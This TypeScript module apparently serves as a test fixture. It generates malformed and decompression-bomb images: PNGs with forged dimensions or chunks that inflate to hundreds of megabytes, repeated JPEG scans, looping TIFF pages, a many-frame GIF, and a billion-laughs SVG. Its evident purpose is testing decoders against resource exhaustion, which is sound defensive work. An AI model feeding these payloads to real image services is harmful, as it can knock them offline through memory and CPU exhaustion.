import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

export interface Bomb {
  readonly name: string;
  readonly bytes: Uint8Array;
}

/** False sizes and loops, a few bytes each. */
export async function smallBombs(): Promise<Bomb[]> {
  const jpeg = await plain(64, 64).jpeg({ progressive: true }).toBuffer();
  return [
    { name: "PNG of 30,000 x 30,000 claimed, one row there", bytes: png(30_000, 30_000, [idat(90_001)]) },
    { name: "PNG of 2^31-1 x 2^31-1 claimed", bytes: png(2 ** 31 - 1, 2 ** 31 - 1, [idat(1000)]) },
    { name: "PNG of 30,000,000 x 1, all there", bytes: png(30_000_000, 1, [idat(90_000_001)]) },
    { name: "PNG with 100,000 empty chunks", bytes: png(8, 8, [...manyChunks(), idat(200)]) },
    { name: "JPEG with its scans 5,000 times", bytes: scansRepeated(jpeg, 5_000) },
    { name: "JPEG that claims 65,500 x 65,500", bytes: claimed(jpeg, 65_500) },
    { name: "GIF of 65,535 x 65,535 claimed", bytes: gif(65_535, 65_535, 1) },
    { name: "GIF of 2,000 x 2,000 with 5,000 frames", bytes: gif(2_000, 2_000, 5_000) },
    { name: "TIFF of 60,000 x 60,000 claimed", bytes: tiff(60_000, 60_000) },
    { name: "TIFF whose pages point to themselves", bytes: tiff(16, 16, 8) },
    { name: "BMP of 60,000 x 60,000 claimed", bytes: bmp(60_000, 60_000) },
    { name: "BMP of 2^31-1 x -2^31 claimed", bytes: bmp(2 ** 31 - 1, -(2 ** 31)) },
    { name: "SVG that refers to itself a billion times", bytes: Buffer.from(laughs()) },
  ];
}

/** These really do decompress to huge sizes. */
export async function bigBombs(): Promise<Bomb[]> {
  const wide = plain(16_383, 6_000).webp({ effort: 0 });
  const progressive = plain(9_000, 9_000).jpeg({ quality: 30, progressive: true });
  return [
    { name: "PNG of 10,000 x 10,000, all there", bytes: await plain(10_000, 10_000).png().toBuffer() },
    { name: "PNG whose rows unpack to 1 GB", bytes: png(100, 100, [idat(1_000_000_000)]) },
    { name: "PNG with a text that unpacks to 500 MB", bytes: png(8, 8, [ztxt(500_000_000), idat(200)]) },
    { name: "PNG with a profile that unpacks to 200 MB", bytes: png(8, 8, [iccp(200_000_000), idat(200)]) },
    { name: "WebP of 16,383 x 6,000, all there", bytes: await wide.toBuffer() },
    {
      name: "JPEG of 10,000 x 9,900, all there",
      bytes: await plain(10_000, 9_900).jpeg({ quality: 30 }).toBuffer(),
    },
    { name: "progressive JPEG of 9,000 x 9,000", bytes: await progressive.toBuffer() },
    {
      name: "TIFF of 9,000 x 9,000, deflated",
      bytes: await plain(9_000, 9_000).tiff({ compression: "deflate" }).toBuffer(),
    },
    {
      name: "AVIF of 4,000 x 4,000",
      bytes: await plain(4_000, 4_000).avif({ effort: 0, quality: 1 }).toBuffer(),
    },
  ];
}

const plain = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: "#204060" }, limitInputPixels: false });

const manyChunks = () => Array<Buffer>(100_000).fill(chunk("tEXt", Buffer.from("a\0")));

const SIGNATURE = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");

function png(width: number, height: number, chunks: readonly Buffer[]): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([SIGNATURE, chunk("IHDR", header), ...chunks, chunk("IEND", Buffer.alloc(0))]);
}

const zeros = (bytes: number) => deflateSync(Buffer.alloc(bytes), { level: 9 });
const idat = (bytes: number) => chunk("IDAT", zeros(bytes));
const ztxt = (bytes: number) => chunk("zTXt", Buffer.concat([Buffer.from("Comment\0\0"), zeros(bytes)]));
const iccp = (bytes: number) => chunk("iCCP", Buffer.concat([Buffer.from("profile\0\0"), zeros(bytes)]));

function chunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), content]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** From the first start of scan to the end of the image, repeatedly. */
function scansRepeated(jpeg: Buffer, times: number): Buffer {
  const start = jpeg.indexOf(Buffer.from([0xff, 0xda]));
  const scans = jpeg.subarray(start, jpeg.length - 2);
  return Buffer.concat([jpeg.subarray(0, start), ...Array<Buffer>(times).fill(scans), jpeg.subarray(-2)]);
}

function claimed(jpeg: Buffer, side: number): Buffer {
  const bytes = Buffer.from(jpeg);
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc2]));
  bytes.writeUInt16BE(side, frame + 5);
  bytes.writeUInt16BE(side, frame + 7);
  return bytes;
}

function gif(width: number, height: number, frames: number): Buffer {
  const header = Buffer.from("GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff", "latin1");
  header.writeUInt16LE(width, 6);
  header.writeUInt16LE(height, 8);
  const frame = Buffer.from(",\0\0\0\0\0\0\0\0\0\x02\x02D\x01\0", "latin1");
  frame.writeUInt16LE(width, 5);
  frame.writeUInt16LE(height, 7);
  return Buffer.concat([header, ...Array<Buffer>(frames).fill(frame), Buffer.from(";")]);
}

/** One strip; the next directory at `next`. */
function tiff(width: number, height: number, next = 0): Buffer {
  const entries: [number, number, number][] = [
    [256, 4, width],
    [257, 4, height],
    [258, 3, 8],
    [259, 3, 1],
    [262, 3, 1],
    [273, 4, 200],
    [277, 3, 1],
    [278, 4, height],
    [279, 4, 100],
  ];
  const bytes = Buffer.alloc(400);
  bytes.write("II*\0", "latin1");
  bytes.writeUInt32LE(8, 4);
  bytes.writeUInt16LE(entries.length, 8);
  for (const [i, [tag, type, value]] of entries.entries()) {
    const place = 10 + i * 12;
    bytes.writeUInt16LE(tag, place);
    bytes.writeUInt16LE(type, place + 2);
    bytes.writeUInt32LE(1, place + 4);
    bytes.writeUInt32LE(value, place + 8);
  }
  bytes.writeUInt32LE(next, 10 + entries.length * 12);
  return bytes;
}

function bmp(width: number, height: number): Buffer {
  const bytes = Buffer.alloc(2000);
  bytes.write("BM");
  bytes.writeUInt32LE(bytes.length, 2);
  bytes.writeUInt32LE(54, 10);
  bytes.writeUInt32LE(40, 14);
  bytes.writeInt32LE(width, 18);
  bytes.writeInt32LE(height, 22);
  bytes.writeUInt16LE(1, 26);
  bytes.writeUInt16LE(24, 28);
  return bytes;
}

function laughs(): string {
  const uses = Array.from(
    { length: 9 },
    (_, i) => `<g id="l${i + 1}">${`<use href="#l${i}"/>`.repeat(10)}</g>`,
  );
  return `<svg xmlns="http://www.w3.org/2000/svg"><g id="l0"><rect width="9" height="9"/></g>${uses.join("")}</svg>`;
}
